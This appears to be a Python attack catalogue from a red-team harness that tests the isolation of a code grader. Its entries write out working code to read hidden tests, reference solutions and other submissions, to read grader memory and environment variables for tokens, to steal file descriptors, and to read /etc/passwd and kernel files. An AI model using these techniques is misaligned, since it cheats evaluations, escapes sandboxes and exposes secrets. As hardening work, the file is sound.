"""Attacks that look for what the grader knows: hidden tests, solutions, other submissions, its own process."""

from __future__ import annotations

from redteam.attack import Attack

__all__ = ["ATTACKS"]

ATTACKS = (
    Attack(
        "read",
        "hidden-tests",
        "Opens the test file of the question where a checkout has it, by this path and by others to the same file.",
        """
def attack():
    path = TARGET["tests"]
    return tried(
        lambda: read(path),
        lambda: read(f"/proc/self/root{path}"),
        lambda: read(f"/proc/{ZYGOTE}/root{path}"),
        lambda: read(f"/proc/{TARGET['pid']}/root{path}"),
        lambda: os.read(os.open(os.path.basename(path), 0, dir_fd=os.open(os.path.dirname(path), os.O_PATH)), 10**6),
    )
""",
    ),
    Attack(
        "read",
        "search-for-tests",
        "Searches for test files around all places that a Python process knows.",
        """
def attack():
    places, roots = {os.getcwd(), *sys.path, TARGET["repository"], os.path.dirname(np.__file__)}, set()
    for place in filter(None, places):
        while place != "/":
            roots.add(place)
            place = os.path.dirname(place)
    patterns = ("solutions/*/tests/*/*.py", "*/solutions/*/tests/*/*.py", "tests/*/three_layer_convnet.py")
    found = [path for root in sorted(roots) for pattern in patterns for path in glob.glob(f"{root}/{pattern}")]
    return tried(*[lambda path=path: read(path) for path in found[:50]])
""",
    ),
    Attack(
        "read",
        "reference-network",
        "Opens and imports the module of the network with which hidden tests compare, and looks for it in Python.",
        """
def attack():
    path = TARGET["reference"]
    def imported():
        import importlib.util
        specification = importlib.util.spec_from_file_location("reference", path)
        specification.loader.exec_module(importlib.util.module_from_spec(specification))
        return specification.loader.get_data(path)
    def loaded():
        modules = [module for module in sys.modules.values() if "three_layer_scores" in dir(module)]
        return "".join(inspect.getsource(module) for module in modules).encode()
    return tried(lambda: read(path), imported, loaded)
""",
    ),
    Attack(
        "read",
        "solutions",
        "Opens the solution notebook.",
        'def attack():\n    return tried(lambda: read(TARGET["solution"], 10**7)[-400_000:])\n',
    ),
    Attack(
        "read",
        "environment",
        "Reads the environment of the grader, of the zygote and of this process.",
        """
def attack():
    environments = [f"/proc/{pid}/environ" for pid in (TARGET["pid"], ZYGOTE, os.getpid())]
    return tried(lambda: os.environ.items(), *[lambda path=path: read(path) for path in environments])
""",
    ),
    Attack(
        "read",
        "command-line",
        "Reads the grader's command line, on which paths and tokens may stand.",
        """
def attack():
    lines = [f"/proc/{pid}/cmdline" for pid in (TARGET["pid"], ZYGOTE, os.getpid())]
    return tried(lambda: sys.argv, *[lambda path=path: read(path) for path in lines])
""",
    ),
    Attack(
        "read",
        "memory-file",
        "Reads the grader's memory through /proc.",
        """
def attack():
    def peek():
        memory = os.open(f"/proc/{TARGET['pid']}/mem", os.O_RDONLY)
        return os.pread(memory, 64, TARGET["memory_address"])
    return tried(peek)
""",
        succeeds_bare="root",
    ),
    Attack(
        "read",
        "memory-call",
        "Reads the grader's memory by process_vm_readv.",
        """
def attack():
    def peek():
        buffer = ctypes.create_string_buffer(64)
        ours = struct.pack("QQ", ctypes.addressof(buffer), 64)
        theirs = struct.pack("QQ", TARGET["memory_address"], 64)
        system_call(310, TARGET["pid"], ours, 1, theirs, 1, 0)
        return buffer.raw
    return tried(peek)
""",
        succeeds_bare="root",
    ),
    Attack(
        "read",
        "open-files",
        "Reads the files that the grader has open, through its descriptors.",
        """
def attack():
    names = tried(lambda: " ".join(os.listdir(f"/proc/{TARGET['pid']}/fd")).encode()).decode().split()
    regular = [f"/proc/{TARGET['pid']}/fd/{name}" for name in (*names, TARGET["descriptor"])]
    regular = [path for path in regular if os.path.isfile(path)]
    return tried(*[lambda path=path: read(path) for path in regular])
""",
    ),
    Attack(
        "read",
        "stolen-descriptor",
        "Copies the grader's descriptor of a file by pidfd_getfd.",
        """
def attack():
    def steal():
        handle = system_call(434, TARGET["pid"], 0)
        return os.pread(system_call(438, handle, TARGET["descriptor"], 0), 1000, 0)
    return tried(steal)
""",
        succeeds_bare="root",
    ),
    Attack(
        "read",
        "inherited-descriptors",
        "Reads every descriptor that was left open when this process was forked.",
        """
def attack():
    return tried(*[lambda number=number: os.pread(number, 10_000, 0) for number in range(3, 1024)])
""",
        succeeds_bare="never",
    ),
    Attack(
        "read",
        "frames-and-heap",
        "Searches the frames of its callers and all objects of this process for the names of hidden checks.",
        """
def attack():
    kinds = (str, bytes, dict, list, tuple, set)
    frame, found = sys._getframe(), []
    while frame is not None:
        found.append(repr(frame.f_locals.keys()))
        found += [repr(value)[:2000] for value in frame.f_locals.values() if isinstance(value, kinds)]
        frame = frame.f_back
    wanted = tuple(name[::-1] for name in TARGET["checks_reversed"])
    def names(thing):
        texts = thing.keys() if isinstance(thing, dict) else thing
        return [text for text in list(texts)[:500] if isinstance(text, str) and text in wanted]
    for thing in gc.get_objects():
        if isinstance(thing, kinds[2:]) and thing is not wanted:
            found += tried(lambda: names(thing) or 1 / 0).decode().split()
    return " ".join(found).encode(errors="replace")[-300_000:]
""",
        succeeds_bare="never",
    ),
    Attack(
        "read",
        "neighbours-scratch",
        "Opens a file in the scratch folder of another submission's worker.",
        """
def attack():
    folder = TARGET["neighbour_folder"]
    return tried(
        lambda: read(f"{folder}/answer"),
        lambda: read(os.path.join("..", os.path.basename(folder), "answer")),
        lambda: read(f"/proc/{TARGET['neighbour']}/cwd/answer"),
    )
""",
    ),
    Attack(
        "read",
        "neighbours-memory",
        "Reads the memory of another submission's worker.",
        """
def attack():
    def peek():
        memory = os.open(f"/proc/{TARGET['neighbour']}/mem", os.O_RDONLY)
        return os.pread(memory, 64, TARGET["neighbour_address"])
    return tried(peek)
""",
        succeeds_bare="root",
    ),
    Attack(
        "read",
        "neighbours-by-name",
        "Lists who else is being graded: scratch folders and processes.",
        """
def attack():
    def others():
        return [name for name in os.listdir(os.path.dirname(os.getcwd())) if name != os.path.basename(os.getcwd())]
    def processes():
        return [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    return tried(lambda: others() or 1 / 0, lambda: processes() or 1 / 0)
""",
        proof="claim",
    ),
    Attack(
        "read",
        "accounts-and-homes",
        "Reads what every user of a machine may read: accounts, homes, the temporary folder.",
        """
def attack():
    return tried(
        lambda: read("/etc/passwd"), lambda: read("/etc/hostname"), lambda: os.listdir("/tmp"),
        lambda: os.listdir("/home"), lambda: os.listdir("/root"), lambda: os.listdir("/var/log"),
    )
""",
        proof="claim",
    ),
    Attack(
        "read",
        "machine-memory",
        "Opens the machine's memory and disks as files.",
        """
def attack():
    devices = ["/proc/kcore", "/dev/mem", "/dev/kmem", "/dev/port", *glob.glob("/dev/[shv]d[a-z]"), "/dev/nvme0n1"]
    return tried(*[lambda path=path: os.close(os.open(path, os.O_RDONLY)) for path in devices])
""",
        proof="claim",
        succeeds_bare="never",
    ),
    Attack(
        "read",
        "file-names-by-watching",
        "Watches a folder that everybody may list, and learns the names of files that come and go in it.",
        """
def attack():
    def watch():
        watcher = libc.inotify_init1(os.O_NONBLOCK)
        if watcher < 0 or libc.inotify_add_watch(watcher, TARGET["public_folder"].encode(), 0x300) < 0:
            raise OSError
        time.sleep(0.7)
        return os.read(watcher, 10_000)
    return tried(watch)
""",
    ),
    Attack(
        "read",
        "kernel-log",
        "Reads the kernel's log and its symbols.",
        """
def attack():
    return tried(lambda: is_let_in(103, 10, 0, 0), lambda: read("/dev/kmsg", 10), lambda: read("/proc/kallsyms", 10))
""",
        proof="claim",
    ),
    Attack(
        "read",
        "machine-from-within",
        "Reads what the kernel says of the machine among the files of its own process: mounts, sockets, groups.",
        """
def attack():
    names = ("mountinfo", "mounts", "mountstats", "cgroup", "net/unix", "net/tcp", "net/dev", "net/route", "cpuset")
    places = ("/proc/self", "/proc/thread-self", f"/proc/{os.getpid()}", f"/proc/self/task/{threading.get_native_id()}")
    return tried(*[lambda path=f"{place}/{name}": read(path)[:500] for place in places for name in names])
""",
        proof="claim",
    ),
    Attack(
        "read",
        "machine-by-detours",
        "Comes to the same files from a folder that it holds, through its root, and as another's.",
        """
def attack():
    def within(folder, name):
        here = os.open(folder, os.O_PATH | os.O_DIRECTORY)
        return os.read(os.open(name, os.O_RDONLY, dir_fd=here), 500)
    def from_here():
        before = os.getcwd()
        os.chdir("/proc/self")
        try:
            return read("mountinfo")[:500]
        finally:
            os.chdir(before)
    def linked():
        os.symlink("/proc/self/mountinfo", "link")
        return read("link")[:500]
    others = [lambda pid=pid: read(f"/proc/{pid}/mountinfo")[:500] for pid in (ZYGOTE, TARGET["pid"], 1)]
    return tried(
        lambda: within("/proc/self", "mountinfo"),
        lambda: within("/proc/self/net", "unix"),
        lambda: read("/proc/self/root/proc/self/mountinfo")[:500],
        lambda: read("/proc/self/cwd/../../../proc/self/cgroup")[:500],
        lambda: os.listdir("/proc/self/map_files"),
        lambda: os.listdir("/proc/self/net"),
        from_here,
        linked,
        *others,
    )
""",
        proof="claim",
    ),
)
